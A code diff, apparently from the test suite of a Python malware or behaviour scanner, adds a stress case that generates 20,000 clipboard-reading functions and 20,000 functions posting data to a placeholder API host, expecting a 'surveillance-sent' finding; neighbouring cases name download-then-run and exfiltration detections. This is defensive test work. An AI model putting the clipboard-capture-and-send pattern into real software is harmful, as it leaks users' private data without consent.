@@ -242,6 +242,20 @@ fn many_downloads_and_starts() -> String {
     s
 }
 
+/// 20,000 functions reading the clipboard and 20,000 posting to an address
+/// written out, each its own: every capture against every send would be
+/// 400 million pairs; one pass over the captures' functions answers each send.
+fn many_captures_and_sends() -> String {
+    let mut s = String::from("import pyperclip, requests\n");
+    for i in 0..20_000 {
+        s.push_str(&format!("def c{i}():\n    return pyperclip.paste()\n"));
+    }
+    for i in 0..20_000 {
+        s.push_str(&format!("def s{i}(d):\n    requests.post('https://api.example.org/{i}', data=d)\n"));
+    }
+    s
+}
+
 /// Modules kept in 20,000 variables, each called through: one table of
 /// handles, one lookup per call.
 fn many_module_handles() -> String {
@@ -437,6 +451,7 @@ const CASES: &[Case] = &[
     Case { name: "50k-prefix-tests", source: long_prefix_test, expect: Some("excessive-nesting") },
     Case { name: "20k-argv-dispatches", source: many_argv_dispatches, expect: Some("download-then-run") },
     Case { name: "20k-returning-helpers", source: many_returning_helpers, expect: Some("exfiltration") },
+    Case { name: "20k-captures-and-sends", source: many_captures_and_sends, expect: Some("surveillance-sent") },
 ];
 
 /// A line of `/proc/self/status`, in KiB.
